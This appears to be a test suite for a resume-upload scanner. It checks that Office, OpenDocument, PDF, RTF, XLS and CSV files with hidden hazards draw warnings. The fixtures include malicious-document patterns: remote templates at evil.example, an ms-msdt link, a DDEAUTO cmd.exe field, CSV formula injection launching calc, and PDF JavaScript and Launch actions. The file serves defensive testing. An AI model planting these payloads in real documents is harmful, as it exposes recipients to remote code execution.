/**
 * What a resume hides from whoever looks at names only: relations, content types, encodings, other
 * spellings. Numbers are those of OWASP ASVS 5.0, chapter V5.
 */
import {deflateSync} from 'node:zlib';
import {LONGEST_TEXT} from '../../src/server/forms/content/zip';
import {officeFile, ole2File, openDocument} from './setup/documents';
import {accepted, expectRefused} from './setup/resumes';
import {serverForAll} from './setup/server';
import {zipFile, type ZipEntry} from './setup/zip';

const server = serverForAll();

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const relations = (
  type: string,
  target: string,
  mode = '',
  name = 'word/_rels/settings.xml.rels',
): ZipEntry => ({
  name,
  deflated: true,
  content: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" ${mode && `TargetMode="${mode}"`}/></Relationships>`,
});

const docx = (...entries: (ZipEntry | string)[]) => officeFile('.docx', ...entries);

const withTypes = (types: string | Buffer, ...others: (ZipEntry | string)[]) =>
  zipFile([{name: '[Content_Types].xml', content: types}, 'word/document.xml', ...others]);

const override = (part: string, type: string) =>
  `<Types><Override PartName="/${part}" ContentType="${type}"/></Types>`;

const utf16 = (entry: ZipEntry): ZipEntry => ({
  ...entry,
  content: Buffer.from(`\ufeff${String(entry.content)}`, 'utf16le'),
});

const PDF = '%PDF-1.7\n';
const packed = deflateSync(Buffer.from('1 0 <</S/JavaScript/JS(app.alert(1))>>'));

const boundSheet = (kind: number) =>
  Buffer.from([0x85, 0, 14, 0, 1, 2, 3, 4, 0, kind, 6, 0, ...Buffer.from('Macro1')]);

describe('what is hidden is seen (5.2.2)', () => {
  test.each<[string, string, Buffer, string[]]>([
    [
      'a template from elsewhere',
      'cv.docx',
      docx(relations('attachedTemplate', 'https://evil.example/a.dotm', 'External')),
      ['external link'],
    ],
    [
      'a template from elsewhere, in UTF-16',
      'cv.docx',
      docx(utf16(relations('attachedTemplate', 'https://evil.example/a.dotm', 'External'))),
      ['external link'],
    ],
    [
      'a template from elsewhere, with entities, single quotes and a prefix',
      'cv.docx',
      docx({
        name: 'word/_rels/settings.xml.rels',
        content: `<p:Relationships xmlns:p="x"><p:Relationship Id='r1' Type='${TYPE}/a&#116;tachedTemplate' Target='//evil.example/a' TargetMode='Ex&#x74;ernal'></p:Relationship></p:Relationships>`,
      }),
      ['external link'],
    ],
    [
      'an object from elsewhere',
      'cv.docx',
      docx(relations('oleObject', 'http://evil.example/a', 'External')),
      ['external link'],
    ],
    [
      'a picture from elsewhere',
      'cv.pptx',
      officeFile(
        '.pptx',
        relations('image', 'file://evil/a', 'External', 'ppt/slides/_rels/a.rels'),
      ),
      ['external link'],
    ],
    [
      'a link that starts something',
      'cv.docx',
      docx(relations('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External')),
      ['external link'],
    ],
    [
      'an object by its relation',
      'cv.docx',
      docx(relations('oleObject', 'a/b.dat')),
      ['embedded file'],
    ],
    ['a file by its relation', 'cv.docx', docx(relations('package', 'a/b.exe')), ['embedded file']],
    [
      'macros by their relation',
      'cv.docx',
      docx(relations('vbaProject', 'image1.png')),
      ['macros'],
    ],
    [
      'macros by their content type',
      'cv.docx',
      withTypes(
        override('word/photo.png', 'application/vnd.ms-office.vbaProject'),
        'word/photo.png',
      ),
      ['macros'],
    ],
    [
      'macros by the type of an extension',
      'cv.docx',
      withTypes(
        '<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        'word/x.dat',
      ),
      ['macros'],
    ],
    [
      'a document that is a template with macros',
      'cv.docx',
      withTypes(
        override(
          'word/document.xml',
          'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
        ),
      ),
      ['macros'],
    ],
    [
      'a macro sheet by its content type',
      'cv.xlsx',
      zipFile([
        {
          name: '[Content_Types].xml',
          content: override('xl/s.xml', 'application/vnd.ms-excel.macrosheet+xml'),
        },
        'xl/workbook.xml',
      ]),
      ['macros'],
    ],
    [
      'relations too long to be read',
      'cv.docx',
      docx({name: 'word/_rels/a.rels', deflated: true, content: ' '.repeat(LONGEST_TEXT + 1)}),
      ['not looked into: too long'],
    ],
    [
      'a script at an event of .odt',
      'cv.odt',
      zipFile([
        {name: 'mimetype', content: 'application/vnd.oasis.opendocument.text'},
        {
          name: 'content.xml',
          content:
            '<o:c xmlns:o="x"><script:event-listener xlink:href="vnd.sun.star.script:a"/></o:c>',
        },
        'META-INF/manifest.xml',
      ]),
      ['macros'],
    ],
    [
      'a picture from elsewhere in .odt',
      'cv.odt',
      zipFile([
        {name: 'mimetype', content: 'application/vnd.oasis.opendocument.text'},
        {
          name: 'content.xml',
          content: '<a><draw:image xlink:href="http://evil.example/a.png"/></a>',
        },
        'META-INF/manifest.xml',
      ]),
      ['external link'],
    ],
    [
      'script in .pdf, its name escaped',
      'cv.pdf',
      Buffer.from(`${PDF}<</S/J#61vaScript/J#53(x)>>`),
      ['script'],
    ],
    [
      'a launch in .pdf, its name escaped',
      'cv.pdf',
      Buffer.from(`${PDF}<</S/#4cau#6Ech>>`),
      ['starts a program'],
    ],
    [
      'script in a packed object of .pdf',
      'cv.pdf',
      Buffer.concat([
        Buffer.from(`${PDF}5 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\r\n`),
        packed,
        Buffer.from('\r\nendstream'),
      ]),
      ['script'],
    ],
    [
      'a form of .pdf that is sent away',
      'cv.pdf',
      Buffer.from(`${PDF}<</S/SubmitForm/F(x)>>`),
      ['external link'],
    ],
    [
      'a template from elsewhere in .rtf',
      'cv.rtf',
      Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dotm}}'),
      ['external link'],
    ],
    [
      'a template from elsewhere in .rtf, escaped',
      'cv.rtf',
      Buffer.from("{\\rtf1{\\*\\template {}\\'68\\u116?t{}p\n://evil.example/a}}"),
      ['external link'],
    ],
    [
      'a template on a share in .rtf that is called .doc',
      'cv.doc',
      Buffer.from('{\\rtf1{\\*\\template \\\\\\\\evil\\\\a.dotm}}'),
      ['external link'],
    ],
    [
      'a field of .rtf that starts a program',
      'cv.rtf',
      Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}}'),
      ['external link'],
    ],
    [
      'macros of Excel 4, by the list of sheets',
      'cv.xls',
      Buffer.concat([ole2File('Workbook'), boundSheet(1)]),
      ['macros'],
    ],
    [
      'macros of Excel 4, by the sheet',
      'cv.xls',
      Buffer.concat([ole2File('Workbook'), Buffer.from('0908100000064000', 'hex')]),
      ['macros'],
    ],
    ['formulas behind a byte order mark', 'cv.csv', Buffer.from('\ufeff=1+1\n'), ['formulas']],
    [
      'formulas in UTF-16',
      'cv.csv',
      Buffer.from('\ufeffa;b\r\n1;=1+1\r\n', 'utf16le'),
      ['formulas'],
    ],
    [
      'formulas in UTF-16, the other way round',
      'cv.csv',
      Buffer.from('\ufeffa;=1+1\r\n', 'utf16le').swap16(),
      ['formulas'],
    ],
    [
      'a formula that begins like a number',
      'cv.csv',
      Buffer.from("a,+1+cmd|' /C calc'!A0\n"),
      ['formulas'],
    ],
    ['a formula that begins like a list', 'cv.csv', Buffer.from('- cmd|x\n'), ['formulas']],
    [
      'a formula behind a separator of its own',
      'cv.csv',
      Buffer.from('sep=^\na^=1+1\n'),
      ['formulas'],
    ],
  ])('%s', async (_what, name, bytes, warnings) => {
    expect((await accepted(server, name, bytes)).warnings).toEqual(warnings);
  });

  test.each<[string, string, Buffer]>([
    [
      'a link on a word',
      'cv.docx',
      docx(relations('hyperlink', 'https://ravi.example', 'External')),
    ],
    [
      'an address on a word',
      'cv.docx',
      docx(relations('hyperlink', 'mailto:ravi@example.com', 'External')),
    ],
    [
      'a link to another file beside it',
      'cv.docx',
      docx(relations('hyperlink', 'work/list.pdf', 'External')),
    ],
    ['a picture inside', 'cv.docx', docx(relations('image', 'media/image1.png'))],
    [
      'a type for an extension that no part has',
      'cv.docx',
      withTypes(
        '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      ),
    ],
    ['a link on a word of .odt', 'cv.odt', openDocument('.odt')],
    [
      'Word’s own template in .rtf',
      'cv.rtf',
      Buffer.from('{\\rtf1{\\*\\template C:\\\\Users\\\\Ravi\\\\Normal.dotm}}'),
    ],
    ['sheets without macros', 'cv.xls', Buffer.concat([ole2File('Workbook'), boundSheet(0)])],
    ['numbers in UTF-16', 'cv.csv', Buffer.from('\ufeff+91 98765;-5,5;- a list\r\n', 'utf16le')],
    ['colours in .pdf that look like escapes', 'cv.pdf', Buffer.from(`${PDF}/CS#20JSON /JSx #4a`)],
  ])('%s is nothing to warn of', async (_what, name, bytes) => {
    expect((await accepted(server, name, bytes)).warnings).toEqual([]);
  });
});

describe('a document that lies about its unpacked size (5.2.3)', () => {
  test.each([
    ['more than it says', 1000],
    ['less than it says', 10_000_000],
  ])('%s', async (_what, uncompressedSize) => {
    const lie = {name: 'word/a.xml', content: 'x'.repeat(5_000_000), deflated: true};
    expect((await accepted(server, 'cv.docx', docx(lie))).warnings).toEqual([]);
    await expectRefused(server, 'cv.docx', docx({...lie, uncompressedSize}), 'fileContent');
  });
});
